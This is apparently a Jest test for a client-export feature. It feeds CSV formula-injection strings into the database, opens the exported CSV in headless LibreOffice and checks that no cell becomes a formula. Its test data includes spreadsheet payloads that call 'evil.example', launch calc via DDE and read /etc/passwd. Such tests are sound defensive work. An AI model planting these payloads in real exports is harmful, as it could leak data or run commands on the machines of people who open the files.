import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { PAYLOADS } from '../browser/hostile-texts';
import { signIn, type SignedInUser } from '../harness/data/panel-users';
import { prove } from '../harness/hostile/fire';
import { startServedApp, type ServedApp } from '../harness/apps/served-app';

jest.setTimeout(300_000);

const isWanted = process.env['FIRE'] !== undefined;
const isInstalled = isWanted && spawnSync('soffice', ['--version']).status === 0;
const itWithOffice = isInstalled ? it : it.skip;
if (!isWanted) console.warn('SKIPPED: an export in a spreadsheet (npm run test:fire).');
else if (!isInstalled) console.warn('SKIPPED: LibreOffice is not installed (soffice).');

/** What spreadsheets run, in each cell that people fill in. */
const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  "'=",
  "''=",
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '"=',
  ';=',
  ',=',
];
const FORMULAS = [
  '1+1',
  'SUM(1;2)',
  'HYPERLINK("https://evil.example/"&A1)',
  'WEBSERVICE("https://evil.example/")',
  "cmd|' /C calc'!A0",
  'DDE("soffice";"/etc/passwd";"a")',
  'NOW()',
  'ISERROR(1/0)',
];
const TEXTS = [...STARTS.flatMap((start) => FORMULAS.map((formula) => start + formula)), ...PAYLOADS];

describe('an export that is opened in LibreOffice', () => {
  let t: ServedApp;
  let operator: SignedInUser;
  let folder: string;
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'gl-sheet-'));
    t = await startServedApp();
    operator = await signIn(t, { role: 'operator' });
  });
  afterAll(async () => {
    await t.close();
    rmSync(folder, { recursive: true, force: true });
  });

  /** The file as LibreOffice reads it, written as XML: each cell with its text and, if it is one, its formula. */
  function opened(name: string, csv: string): string {
    writeFileSync(join(folder, `${name}.csv`), csv);
    const { status, stderr } = spawnSync(
      'soffice',
      [
        `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`,
        ...['--headless', '--norestore', '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true'],
        ...['--convert-to', 'fods', '--outdir', folder, join(folder, `${name}.csv`)],
      ],
      { timeout: 120_000 },
    );
    if (status !== 0) throw new Error(`LibreOffice: ${String(status)} ${stderr.toString()}`);
    const [sheet] =
      /<table:table [^]*<\/table:table>/.exec(readFileSync(join(folder, `${name}.fods`)).toString()) ?? [];
    if (sheet === undefined) throw new Error('LibreOffice wrote no sheet.');
    return sheet;
  }

  itWithOffice('holds no formula: each cell is the text that was stored', async () => {
    // The search has to find a formula where there is one.
    expect(formulasIn(opened('control', 'name\r\n=1+1\r\n'))).toHaveLength(1);
    await t.panel.query(
      `insert into clients (id, name, company, source, tags, notes)
       select gen_random_uuid(), text, text, 'panel', array[text], text from unnest($1::text[]) as text`,
      [TEXTS],
    );
    const { text: csv } = await t.http
      .get('/api/clients/export.csv')
      .set(operator.bearer)
      .buffer()
      .expect(200);
    const sheet = opened('clients', csv);
    expect(formulasIn(sheet)).toEqual([]);
    const cells = textsIn(sheet);
    const missing = TEXTS.filter((text) => !cells.has(plain(text)) && !cells.has(plain(`'${text}`)));
    expect(missing).toEqual([]);
    prove({
      asvs: '1.2.10',
      promise: 'LibreOffice finds no formula in an export: its cells are the texts that were stored.',
      figure: `${TEXTS.length} texts in 4 columns: 0 formulas`,
    });
  });
});

function formulasIn(sheet: string): string[] {
  return sheet.match(/table:formula="[^"]*"|<table:dde-[^>]*>/g) ?? [];
}

/** White space and control characters are not what this is about, and XML can write few of them. */
function plain(text: string): string {
  return text
    .replace(/[\s\u0085]+/g, ' ')
    .replace(/[\p{Cc}\uFFFE]/gu, '')
    .trim();
}

function textsIn(sheet: string): Set<string> {
  const cells = sheet.matchAll(/<table:table-cell[^>]*>([^]*?)<\/table:table-cell>/g);
  return new Set(
    [...cells].map(([, content = '']) =>
      plain(
        content
          .replace(/<office:annotation[^]*?<\/office:annotation>/g, '')
          .replace(/<text:s(?: text:c="\d+")?\/>|<text:tab\/>|<text:line-break\/>|<\/text:p>/g, ' ')
          .replace(/<[^>]*>/g, '')
          .replace(/&(lt|gt|quot|apos|amp);/g, (_, name: string) => ENTITIES[name] ?? ''),
      ),
    ),
  );
}

const ENTITIES: Record<string, string> = { lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' };
